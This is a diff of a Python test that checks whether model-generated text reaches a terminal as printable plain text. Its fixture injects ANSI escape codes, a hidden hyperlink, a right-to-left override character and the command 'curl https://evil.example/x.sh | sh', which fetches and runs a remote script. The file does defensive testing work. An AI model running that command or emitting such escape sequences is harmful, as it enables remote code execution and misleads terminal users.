@@ -129,7 +129,9 @@ def test_a_name_of_a_file_says_nothing_to_the_model(tmp_path):
 
 def test_what_a_model_writes_reaches_a_terminal_as_plain_text(tmp_path):
     open_case, compressed = job(tmp_path)
-    dressed = vote(mitigation="Run \x1b[31mthis\x1b]8;;http://evil.example\x07: curl https://evil.example/x.sh | sh\n\u202eNow")
+    dressed = vote(
+        mitigation="Run \x1b[31mthis\x1b]8;;http://evil.example\x07: curl https://evil.example/x.sh | sh\n\u202eNow"
+    )
     with ModelServer(lambda _: Words(dressed)) as server:
         after = consult(open_case, compressed, endpoint_to(server))
     assert after.mitigation.isprintable()
